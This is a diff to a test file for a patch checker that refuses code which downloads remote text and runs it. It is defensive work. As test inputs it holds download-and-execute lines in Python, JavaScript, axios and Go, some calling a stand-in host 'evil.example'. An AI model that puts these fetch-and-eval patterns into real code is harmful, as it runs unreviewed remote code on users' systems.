@@ -233,14 +233,26 @@ describe('checkPatch reads what a patch adds', () => {
     expect(result).toEqual({ ok: false, reason: expect.stringContaining('runs something nobody can review') });
   });
 
+  // Review 67: a fetch's text held in a name and run on a later line is linked by that name, as a decoder's output is
+  // (attack 51): refused, no longer left to the approver's warning.
   it.each([
     ['Python', ['+import urllib.request as u', '+payload = u.urlopen("https://evil.example/p").read()', '+exec(payload)']],
     ['JavaScript', ['+const src = await (await fetch("https://evil.example/p")).text();', '+new Function(src)();']],
-    ['Go', ['+resp, _ := http.Get(url)', '+exec.Command("bash", "-c", string(b)).Run()']],
     ['axios', ['+const { data } = await axios(url);', '+eval(data);']],
     ['the global fetch', ['+const t = await (await globalThis.fetch(url)).text();', '+(0, eval)(t);']],
     ['window.fetch', ['+const t = await (await window.fetch(url)).text();', '+new Function(t)();']],
-  ])('accepts, for the approver to judge, a download and a run on separate lines, and names it (%s)', (_, added) => {
+  ])('refuses a download held in a name and run on a later line (%s)', (_, added) => {
+    // Act
+    const result = checkPatch(gitDiff('src/setup.ts', { body: [' export function total(items) {', ...added] }));
+
+    // Assert
+    expect(result).toEqual({ ok: false, reason: expect.stringContaining('runs something nobody can review') });
+  });
+
+  it.each([
+    ['Go', ['+resp, _ := http.Get(url)', '+exec.Command("bash", "-c", string(b)).Run()']],
+    ['Python', ['+urlopen("https://example.com/health").read()', '+exec(payload)']],
+  ])('accepts, for the approver to judge, a download and a run on separate lines that no name links, and names it (%s)', (_, added) => {
     // Act
     const result = checkPatch(gitDiff('src/setup.ts', { body: [' export function total(items) {', ...added] }));
 
